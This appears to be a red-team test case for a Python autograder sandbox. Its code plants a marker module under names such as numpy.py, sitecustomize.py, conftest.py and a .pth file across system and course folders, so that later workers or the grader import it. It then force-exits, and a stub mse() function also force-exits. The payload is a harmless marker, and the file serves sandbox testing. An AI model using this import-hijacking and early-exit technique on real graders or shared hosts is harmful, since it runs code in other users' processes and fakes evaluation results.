# mechanism: writes numpy.py, sitecustomize.py, conftest.py and others into its folder, then exits
# success: a module of the student's is imported by the next worker, the host or the grader

# %%
import os

TEXT = """
import os
open("/tmp/planted-by-mallory", "w").write("planted")
raise RuntimeError("loot" + "ed:")
"""
for place in (".", "/scratch", "/site", "/python", "/python/lib/python3.12", "/tmp", "@COURSE@"):
    for name in (
        "numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "msgspec.py", "ast.py",
        "autograder.py", "keras.py", "__main__.py", "x.pth", "pytest.ini", "numpy/__init__.py",
        "autograder/__init__.py", "keras/__init__.py", "__pycache__/numpy.cpython-312.pyc",
    ):
        try:
            path = os.path.join(place, name)
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            open(path, "w").write(TEXT)
        except OSError:
            pass
os._exit(0)


# %%
def mse(*args):
    import os

    import numpy

    os._exit(0)
